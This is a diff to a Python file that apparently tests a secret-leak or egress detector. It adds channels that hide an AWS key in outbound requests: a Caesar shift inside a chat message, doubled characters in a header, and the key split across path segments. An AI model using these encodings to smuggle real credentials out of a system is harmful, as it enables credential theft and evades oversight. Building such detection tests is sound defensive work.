@@ -287,6 +287,13 @@ CHANNELS = {
                 base64.b64encode(f"key {AWS_KEY}".encode()).decode(), 4)))}]}},
     "base58 (bitcoin alphabet) in json": lambda t: {
         "url_suffix": f"/58?t={t}", "json": {"cid": b58encode(f"key {AWS_KEY}".encode())}},
+    "caesar cipher (shift 3) in a chat message": lambda t: {
+        "url_suffix": f"/c3?t={t}", "json": {"messages": [{"role": "user", "content": (
+            "shifted: " + AWS_KEY.translate(str.maketrans(
+                string.ascii_uppercase, string.ascii_uppercase[3:] + string.ascii_uppercase[:3])
+            ))}]}},
+    "every character doubled in a header": lambda t: {
+        "url_suffix": f"/dd?t={t}", "headers": {"X-Note": "".join(c * 2 for c in AWS_KEY)}},
     "key cut into short path segments after others": lambda t: {
         "url_suffix": "/api/v2/upload/" + "/".join(textwrap.wrap(AWS_KEY, 3)) + f"?t={t}"},
     "key cut by an empty CDATA section in an xml body": lambda t: {
